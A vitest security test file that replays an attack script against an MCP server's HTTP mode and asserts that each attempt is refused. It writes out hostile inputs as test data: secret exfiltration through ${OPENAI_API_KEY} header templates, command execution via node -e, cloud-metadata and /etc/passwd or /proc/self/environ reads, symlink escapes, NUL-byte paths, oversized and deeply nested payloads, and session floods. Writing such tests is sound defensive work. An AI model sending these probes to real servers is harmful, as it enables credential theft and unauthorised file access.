import { execFileSync, type ChildProcess } from "node:child_process";
import { existsSync } from "node:fs";
import { mkdir, mkdtemp, readdir, readFile, rm, symlink, writeFile } from "node:fs/promises";
import { createServer, request, type IncomingHttpHeaders, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import { basename, join } from "node:path";
import { Client } from "@modelcontextprotocol/sdk/client/index.js";
import { StreamableHTTPClientTransport } from "@modelcontextprotocol/sdk/client/streamableHttp.js";
import { CallToolResultSchema, McpError, type CallToolResult } from "@modelcontextprotocol/sdk/types.js";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { fingerprint } from "../helpers/fingerprint.js";
import { SMALL_CONFIG } from "../helpers/mcp-client.js";
import { CLI } from "../helpers/run-cli.js";
import { startServeHttp } from "../helpers/serve-http.js";

/*
 * The attack script of issue 14, run against `agentsynth serve --http` with a token, as a hostile or
 * prompt-injected host would run it: secrets through ${VAR} headers, command execution, files outside the
 * roots, a FIFO, symbolic links in the export folder, an oversized message, malformed arguments and a flood
 * of sessions. Afterwards: no secret anywhere, nothing read or written outside the roots, and the server
 * still answers.
 */

const TOKEN = "attack-token-4e7b0c";
const SECRET = 'sk-"attack"\\target-7d1f';
const SECRET_FORMS = [SECRET, JSON.stringify(SECRET).slice(1, -1), "target-7d1f"];
const MAX_SESSIONS = 8;

let directory: string;
let outside: string;
let outsideBefore: Record<string, string>;
let marker: string;
let server: ChildProcess;
let serverOutput: () => string;
let url: URL;
let listener: Server;
let listenerUrl: string;
const received: IncomingHttpHeaders[] = [];
let client: Client;
let transport: StreamableHTTPClientTransport;

beforeAll(async () => {
  if (!existsSync(CLI)) throw new Error(`${CLI} is missing: run \`npm run build\` first (npm test does)`);
  directory = await mkdtemp(join(tmpdir(), "agentsynth-attacks-"));
  outside = join(directory, "outside");
  marker = join(outside, "command-ran");
  await mkdir(outside);
  await writeFile(join(outside, "passwd"), "root:x:0:0:root:/root:/bin/bash\n");
  await writeFile(join(outside, "keys.json"), JSON.stringify({ aws_secret_access_key: "AKIA-outside-secret" }));
  await writeFile(join(outside, "victim.txt"), "precious\n");
  await writeFile(join(directory, "pipeline.json"), JSON.stringify(SMALL_CONFIG));
  await mkdir(join(directory, "data"));
  await mkdir(join(directory, "exports"));
  execFileSync("mkfifo", [join(directory, "data", "pipe.json")]);
  await symlink(outside, join(directory, "exports", "linked"));
  await symlink(join(outside, "keys.json"), join(directory, "data", "keys.json"));
  outsideBefore = await fingerprint(outside);

  listener = createServer((req, res) => {
    received.push(req.headers);
    res.writeHead(404).end();
  });
  await new Promise<void>((resolve) => listener.listen(0, "127.0.0.1", resolve));
  listenerUrl = `http://127.0.0.1:${(listener.address() as AddressInfo).port}/mcp`;

  const served = await startServeHttp(["--config", "pipeline.json", "--data-dir", "data", "--out", "exports", "--max-sessions", String(MAX_SESSIONS)], {
    cwd: directory,
    env: { AGENTSYNTH_TOKEN: TOKEN, OPENAI_API_KEY: SECRET },
  });
  server = served.process;
  url = served.url;
  serverOutput = served.output;
  transport = new StreamableHTTPClientTransport(url, { requestInit: { headers: { Authorization: `Bearer ${TOKEN}` } } });
  client = new Client({ name: "hostile-host", version: "6.6.6" });
  await client.connect(transport);
}, 60_000);

afterAll(async () => {
  await client?.close().catch(() => undefined);
  if (server && server.exitCode === null) {
    const exited = new Promise((resolve) => server.once("exit", resolve));
    server.kill("SIGTERM");
    await exited;
  }
  await new Promise<void>((resolve) => listener.close(() => resolve()));
  await rm(directory, { recursive: true, force: true });
});

async function call(name: string, args: unknown): Promise<CallToolResult> {
  return (await client.request({ method: "tools/call", params: { name, arguments: args } } as never, CallToolResultSchema)) as CallToolResult;
}

function textOf(result: CallToolResult): string {
  return result.content.map((block) => (block.type === "text" ? block.text : "")).join("\n");
}

/** A refused call: an isError result whose text quotes nothing of the files outside. */
async function refused(name: string, args: unknown): Promise<string> {
  const result = await call(name, args);
  expect(result.isError, textOf(result)).toBe(true);
  const text = textOf(result);
  expect(text).not.toMatch(/root:x|AKIA-outside-secret|aws_secret_access_key|precious/);
  return text;
}

async function expectServing(): Promise<void> {
  const stats = await call("get_stats", {});
  expect(stats.isError).toBeFalsy();
}

function rawPost(body: string, headers: Record<string, string> = {}): Promise<{ status: number; body: string }> {
  return new Promise((resolve, reject) => {
    const req = request(url, { method: "POST", headers: { authorization: `Bearer ${TOKEN}`, "content-type": "application/json", accept: "application/json, text/event-stream", ...headers } }, (res) => {
      let text = "";
      res.on("data", (chunk: Buffer) => (text += chunk.toString()));
      res.on("end", () => resolve({ status: res.statusCode ?? 0, body: text }));
    });
    req.on("error", reject);
    req.end(body);
  });
}

/** The headers of a raw request in the client's session. */
function session(): Record<string, string> {
  return { "mcp-session-id": transport.sessionId ?? "", "mcp-protocol-version": "2025-06-18" };
}

async function allText(folder: string): Promise<string> {
  const files = (await readdir(folder, { recursive: true, withFileTypes: true })).filter((entry) => entry.isFile());
  return (await Promise.all(files.map((file) => readFile(join(file.parentPath, file.name), "utf8")))).join("\n");
}

describe("the attack script against serve --http with a token", () => {
  it("secrets through ${VAR}: a header naming the server's key never reaches the listener", async () => {
    expect(await refused("add_mcp_server", { name: "exfil", url: listenerUrl, headers: { Authorization: "Bearer ${OPENAI_API_KEY}" } })).toMatch(/cannot read the server's environment/);
    expect(await refused("add_mcp_server", { name: "exfil", url: `${listenerUrl}?k=\${OPENAI_API_KEY}` })).toMatch(/cannot read the server's environment/);
    expect(received).toEqual([]);
  });

  it("command injection: a stdio server is refused over MCP and its command never runs", async () => {
    const script = `require("fs").writeFileSync(${JSON.stringify(marker)}, process.env.OPENAI_API_KEY ?? "")`;
    expect(await refused("add_mcp_server", { name: "shell", command: process.execPath, args: ["-e", script] })).toContain("--allow-server-edits");
    expect(await refused("add_mcp_server", { name: "meta", url: "http://169.254.169.254/latest/meta-data/iam/" })).toMatch(/link-local or cloud-metadata/);
    expect(await refused("add_mcp_server", { name: "__proto__", url: listenerUrl })).toMatch(/reserved/);
    expect(existsSync(marker)).toBe(false);
  });

  it("files outside the roots: refused exactly as a missing file, never quoted", async () => {
    const missing = await refused("import_tools", { file: join(outside, "no-such.json") });
    const present = await refused("import_tools", { file: join(outside, "keys.json") });
    expect(present.replace("keys.json", "F")).toBe(missing.replace("no-such.json", "F"));
    await refused("import_tools", { file: "/etc/passwd" });
    await refused("import_tools", { file: "/proc/self/environ" });
    await refused("import_tools", { file: join(directory, "data", "keys.json") }); // a link inside the data dir pointing out
    expect(await refused("run_pipeline", { configFile: join(outside, "passwd") })).toMatch(/CONFIG_INVALID: .*no such file in the folders this server may read/);
    expect(await refused("import_tools", { file: `${join(directory, "data")}/a\u0000b.json` })).toMatch(/INPUT_INVALID: .*NUL byte/);
    expect(await refused("import_tools", { file: join(directory, "data", "x".repeat(300)) })).toMatch(/INPUT_INVALID: .*longer than 255 bytes/);
  });

  it("a FIFO in the data directory: five reads at once are refused without blocking, and the server answers", async () => {
    const texts = await Promise.all(Array.from({ length: 5 }, () => refused("import_tools", { file: join(directory, "data", "pipe.json") })));
    for (const text of texts) expect(text).toMatch(/is not a regular file \(it is a FIFO\)/);
    await expectServing();
  });

  it("symbolic links in the export folder: nothing is written outside --out", async () => {
    const run = await call("run_pipeline", {});
    expect(run.isError, textOf(run)).toBeFalsy();
    const datasetId = (run.structuredContent as { datasetId: string }).datasetId;
    expect(await refused("export_dataset", { datasetId, out: "linked" })).toMatch(/outside the allowed export root/);
    expect(await refused("export_dataset", { datasetId, path: "linked/train.jsonl" })).toMatch(/outside the allowed export root/);
    // A link planted at the file itself is refused; links planted in the folder an export writes to are replaced, never written through.
    await mkdir(join(directory, "exports", "planted"));
    await symlink(join(outside, "victim.txt"), join(directory, "exports", "planted", "train.jsonl"));
    expect(await refused("export_dataset", { datasetId, path: "planted/train.jsonl", force: true })).toMatch(/outside the allowed export root/);
    const folder = join(directory, "exports", "again", basename((run.structuredContent as { export: { directory: string } }).export.directory));
    await mkdir(folder, { recursive: true });
    for (const name of ["README.md", "train.jsonl", "train.jsonl.partial"]) await symlink(join(outside, "victim.txt"), join(folder, name));
    const exported = await call("export_dataset", { datasetId, out: "again", force: true });
    expect(exported.isError, textOf(exported)).toBeFalsy();
    expect((exported.structuredContent as { directory: string }).directory).toBe(folder);
    expect(await readFile(join(outside, "victim.txt"), "utf8")).toBe("precious\n");
  }, 60_000);

  it("an oversized message gets 413, bad arguments -32602, deep nesting -32602, and the next call is answered", async () => {
    const big = await rawPost(JSON.stringify({ jsonrpc: "2.0", id: 99, method: "tools/call", params: { name: "get_stats", arguments: { pad: "x".repeat(5 * 1024 * 1024) } } }), session());
    expect(big.status).toBe(413);
    for (const args of ['{"taskId":"tsk_1"}', 42, null]) {
      const error = await call("list_episodes", args).catch((caught: unknown) => caught);
      expect((error as McpError).code).toBe(-32602);
    }
    // Written by hand: JSON.stringify itself overflows on 5,000 levels.
    const deep = `${'{"a":'.repeat(5000)}{}${"}".repeat(5000)}`;
    const nested = await rawPost(`{"jsonrpc":"2.0","id":98,"method":"tools/call","params":{"name":"create_domain","arguments":${deep}}}`, session());
    expect(nested.status).toBe(200);
    expect(nested.body).toMatch(/"code":-32602,"message":"Invalid tools\/call request: the params are nested deeper than 64 levels/);
    await expectServing();
  });

  it("a flood of sessions is capped with 503, and the session in use keeps working", async () => {
    const initialize = JSON.stringify({ jsonrpc: "2.0", id: 1, method: "initialize", params: { protocolVersion: "2025-06-18", capabilities: {}, clientInfo: { name: "flood", version: "1" } } });
    const statuses = await Promise.all(Array.from({ length: 3 * MAX_SESSIONS }, () => rawPost(initialize).then((answer) => answer.status, (error: unknown) => String(error))));
    expect(statuses.filter((status) => status === 503).length).toBeGreaterThanOrEqual(2 * MAX_SESSIONS);
    expect(statuses.filter((status) => status !== 200 && status !== 503)).toEqual([]);
    await expectServing();
  });

  it("afterwards: no secret leaked anywhere, nothing outside the roots changed, and the server is alive", async () => {
    expect(server.exitCode).toBeNull();
    await expectServing();
    expect(await fingerprint(outside)).toEqual(outsideBefore);
    expect(existsSync(marker)).toBe(false);
    expect(received).toEqual([]);
    const everything = [await allText(join(directory, "data")), await allText(join(directory, "exports")), serverOutput()].join("\n");
    for (const form of SECRET_FORMS) expect(everything).not.toContain(form);
    expect(everything).not.toContain("AKIA-outside-secret");
  });
});
